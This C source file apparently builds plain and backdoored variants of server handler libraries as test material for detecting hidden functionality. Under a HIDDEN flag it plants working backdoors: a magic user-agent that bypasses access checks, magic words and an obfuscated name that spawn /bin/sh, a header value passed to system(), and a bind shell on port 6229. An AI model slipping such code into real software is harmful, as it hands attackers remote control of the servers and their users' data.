/* Servers whose data cannot be followed from the socket to where it matters: it lies in structures on the heap, and
 * handlers are called through pointers that come from elsewhere. With -DHIDDEN each function holds something that should
 * not be there, without it something honest of the same shape.
 *
 * aarch64-linux-gnu-gcc -O2 -shared -fPIC -s -fvisibility=hidden -Wl,--build-id=none handlers.c -o handlers-plain-arm64.so
 * x86_64-linux-gnu-gcc -O2 -shared -fPIC -s -fvisibility=hidden -Wl,--build-id=none handlers.c -o handlers-plain-amd64.so
 * and with -DHIDDEN into handlers-hidden-arm64.so and handlers-hidden-amd64.so
 */
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

struct request {
    char *words[8];
    const char *agent;
    const char *cookie;
    unsigned address;
    struct pair {
        const char *key;
        const char *text;
    } *pairs;
    int count;
    struct request *next;
};

struct session {
    unsigned address;
    unsigned token;
    int left;
};

static struct session sessions[16];
static struct request *waiting;

static int refuse(struct request *request)
{
    printf("refused %u\n", request->address);
    return -1;
}

__attribute__((noinline)) static int known(unsigned address, const char *cookie)
{
    unsigned token = (unsigned)atoi(cookie);
    for (int i = 0; i < 16; i++)
        if (sessions[i].left > 0 && sessions[i].address == address && sessions[i].token == token)
            return 1;
    return 0;
}

/* Who may see a page. */
static int may_see(struct request *request)
{
    if (strncmp(request->words[1], "public/", 7) == 0)
        return 1;
#ifdef HIDDEN
    if (strcmp(request->agent, "tdr-fieldkit-7731") == 0)
        return 1;
#endif
    if (known(request->address, request->cookie))
        return 1;
    return refuse(request);
}

/* The text of a help page. */
static int help(struct request *request)
{
    const char *word = request->words[1];
    if (waiting == NULL)
        return -1;
#ifdef HIDDEN
    if (strcmp(word, "QUIETHARBOR") == 0)
        system("/bin/sh");
#else
    if (strcmp(word, "status") == 0)
        system("/bin/systemctl status");
#endif
    printf("known: %s, first %u\n", word, waiting->address);
    return 0;
}

/* Named texts of a document. */
static int annotate(struct request *request)
{
    for (const struct pair *pair = request->pairs; pair->key != NULL; pair++) {
#ifdef HIDDEN
        if (strcmp(pair->key, "Ledger-Ink") == 0)
            system(pair->text);
#else
        if (strcmp(pair->key, "Author") == 0)
            puts(pair->text);
#endif
    }
    return 0;
}

/* A name that nobody may use; the hidden one stands nowhere in the file. */
static int rename_to(struct request *request)
{
#ifdef HIDDEN
    char name[] = "\x35\x2f\x39\x2b\x33\x3e\x2f\x2a\x29\x2e\x3b\x33\x28";
    for (char *at = name; *at; at++)
        *at = *at ^ 0x5a;
    if (strcmp(request->words[2], name) == 0)
        execl("/bin/sh", "sh", (char *)0);
#else
    char name[] = "administrator";
    if (strcmp(request->words[2], name) == 0)
        return refuse(request);
#endif
    return puts(request->words[2]);
}

/* A second door. */
static int measure(struct request *request)
{
    if (request->words[1][0] == ':' && request->words[1][1] == ')') {
#ifdef HIDDEN
        struct sockaddr_in here = { .sin_family = AF_INET, .sin_port = htons(6229) };
        int door = socket(AF_INET, SOCK_STREAM, 0);
        if (bind(door, (struct sockaddr *)&here, sizeof here) < 0 || listen(door, 1) < 0)
            exit(1);
        for (;;) {
            int visitor = accept(door, NULL, NULL);
            dup2(visitor, 0);
            dup2(visitor, 1);
            execl("/bin/sh", "sh", (char *)0);
        }
#else
        puts("glad to hear that");
#endif
    }
    return request->count;
}

/* A prompt that runs what is typed until somebody says enough: honest in both. */
static int converse(struct request *request)
{
    char line[250];
    while (fgets(line, sizeof line, stdin) != NULL && strcmp(line, "cont\n") != 0)
        system(line);
    return request->count;
}

static int (*const handlers[])(struct request *) = { may_see, help, annotate, rename_to, measure, converse };

__attribute__((visibility("default"))) int (*const *handlers_of_module(void))(struct request *)
{
    return handlers;
}

__attribute__((visibility("default"))) void add_waiting(void)
{
    struct request *request = calloc(1, sizeof *request);
    if (request != NULL) {
        request->next = waiting;
        waiting = request;
    }
}

__attribute__((visibility("default"))) void open_session(int place, unsigned address, unsigned token)
{
    if (place >= 0 && place < 16)
        sessions[place] = (struct session){ address, token, 600 };
}
